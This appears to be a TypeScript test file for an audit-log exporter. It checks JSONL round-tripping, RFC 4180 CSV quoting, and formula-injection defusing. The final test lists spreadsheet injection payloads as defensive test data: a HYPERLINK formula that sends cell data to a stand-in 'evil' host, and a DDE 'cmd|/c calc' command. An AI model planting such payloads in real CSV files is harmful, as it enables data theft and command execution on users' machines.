import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CSV_COLUMNS, toCsv, toJsonl } from '../../src/audit/audit-format.js';
import { parseAuditEntry, type AuditEntry } from '../../src/operations/audit-log.js';

const requested: AuditEntry = {
  action: 'requested',
  at: '2026-12-01T10:00:00.000Z',
  actor: 'U1',
  cluster: 'c1',
  opId: 'op-1',
  operation: 'cluster shut-down',
  channel: 'C1',
  reason: 'maintenance, "planned"\r\nsee ticket',
  override: true,
  schedule: 'nightly',
  scheduledBy: 'U7',
};
const approved: AuditEntry = { action: 'approved', at: '2026-12-01T10:01:00.000Z', actor: 'U2', cluster: 'c1', opId: 'op-1', approvers: ['U2', 'W3'] };
const finished: AuditEntry = { action: 'finished', at: '2026-12-01T10:09:00.000Z', actor: 'system', cluster: 'c1', opId: 'op-1', detail: 'failed: step 3, timed out' };

/** A minimal RFC 4180 reader, to check that what toCsv writes reads back as the same cells. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  assert.equal(field, '', 'the last line ends in CRLF');
  return rows;
}

describe('toJsonl', () => {
  it('writes one JSON object per line, keys in stored order, that parseAuditEntry reads back unchanged', () => {
    const entries = [requested, approved, finished];
    const text = toJsonl(entries);
    const lines = text.split('\n');
    assert.equal(lines.pop(), '', 'ends with a newline');
    assert.equal(lines.length, 3);
    assert.deepEqual(lines.map((line) => parseAuditEntry(JSON.parse(line))), entries);
    // The same bytes the bot wrote: a line as the audit log stores it (parseAuditEntry's key
    // order) is exported byte for byte.
    const storedLine = JSON.stringify(parseAuditEntry(requested));
    const stored = parseAuditEntry(JSON.parse(storedLine));
    assert.ok(stored);
    assert.equal(toJsonl([stored]), `${storedLine}\n`);
    assert.equal(toJsonl([]), '');
  });
});

describe('toCsv', () => {
  it('has a fixed header and one CRLF-terminated row per entry', () => {
    const text = toCsv([approved]);
    assert.equal(text, 'at,action,actor,cluster,opId,operation,channel,reason,approvers,override,schedule,scheduledBy,detail\r\n2026-12-01T10:01:00.000Z,approved,U2,c1,op-1,,,,U2;W3,,,,\r\n');
    assert.deepEqual(CSV_COLUMNS.join(','), 'at,action,actor,cluster,opId,operation,channel,reason,approvers,override,schedule,scheduledBy,detail');
    assert.equal(toCsv([]), `${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('quotes fields with a comma, a quote, CR or LF (RFC 4180) and reads back to the same cells', () => {
    const text = toCsv([requested, finished]);
    assert.ok(text.includes('"maintenance, ""planned""\r\nsee ticket"'), text);
    assert.ok(text.includes(',"failed: step 3, timed out"\r\n'), text);
    const rows = readCsv(text);
    assert.equal(rows.length, 3);
    assert.ok(rows.every((row) => row.length === CSV_COLUMNS.length));
    assert.deepEqual(rows[1], ['2026-12-01T10:00:00.000Z', 'requested', 'U1', 'c1', 'op-1', 'cluster shut-down', 'C1', 'maintenance, "planned"\r\nsee ticket', '', 'true', 'nightly', 'U7', '']);
    assert.equal(rows[2]?.[12], 'failed: step 3, timed out');
  });

  it('defuses cells a spreadsheet would run as a formula with a leading apostrophe', () => {
    const hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+cmd|/c calc!A0', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const entries = hostile.map((reason): AuditEntry => ({ action: 'requested', at: '2026-12-01T10:00:00.000Z', actor: 'U1', cluster: 'c1', opId: 'op-1', operation: 'x', reason }));
    const rows = readCsv(toCsv(entries)).slice(1);
    assert.deepEqual(rows.map((row) => row[7]), hostile.map((reason) => `'${reason}`));
    // The apostrophe goes inside the quotes, where a spreadsheet sees it first.
    assert.ok(toCsv(entries.slice(0, 1)).includes(`,"'=HYPERLINK(""http://evil/?""&A1,""x"")",`));
    // Any field, not just the reason; and harmless text is left alone.
    const odd: AuditEntry = { action: 'denied', at: '2026-12-01T10:00:00.000Z', actor: '@here', cluster: '=c', detail: 'a=b, -c' };
    assert.deepEqual(readCsv(toCsv([odd]))[1]?.slice(0, 4), ['2026-12-01T10:00:00.000Z', 'denied', "'@here", "'=c"]);
    assert.equal(readCsv(toCsv([odd]))[1]?.[12], 'a=b, -c');
  });
});
